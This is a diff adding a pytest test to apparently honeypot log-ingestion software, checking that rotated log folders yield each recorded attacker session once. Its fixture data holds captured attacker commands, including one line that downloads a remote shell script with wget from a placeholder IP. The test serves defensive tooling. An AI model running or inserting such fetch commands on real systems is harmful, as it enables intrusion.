@@ -46,3 +46,28 @@ def test_17_opencanary_through_syslog(tmp_path: Path) -> None:
     assert (ended["decky_id"], ended["service"], ended["auth"]["usernames"]) == ("oc-1", "ssh", ["admin"])
     assert [e.payload["username"] for e in events if e.topic == "credential.captured"][:1] == ["admin"]
     assert refused == []
+
+
+@pytest.mark.parametrize(
+    ("folder", "wanted"),
+    [
+        ("01-nul-heads", {"a0a000000001": "uname -a", "a0a000000002": "uname -a", "a0a000000003": "uname -a"}),
+        ("02-mixed-rotation", {"a5a500000001": "uname -a", "a5a500000002": "uname -a", "a5a500000003": "uname -a"}),
+        (
+            "14-date-without-zeros",
+            {"aaaa00000000": "crontab -l", "aaaa00000001": "wget http://203.0.113.9/a.sh", "aaaa00000002": "uname -a"},
+        ),
+    ],
+)  # fmt: skip
+def test_a_directory_of_rotated_logs_gives_every_session_once(
+    folder: str, wanted: dict[str, str], tmp_path: Path
+) -> None:
+    refused: list[str] = []
+    events = list(iter_events(CASES / folder, Settings(data_dir=tmp_path), refused))
+    ended = [e.payload for e in events if e.topic == "attacker.session.ended"]
+    assert {p["sensor_session"]: [c["command_text"] for c in p["commands"]] for p in ended} == {
+        native: [text] for native, text in wanted.items()
+    }
+    assert len(ended) == 3
+    assert {p["end_reason"] for p in ended} == {"closed"}
+    assert refused == []
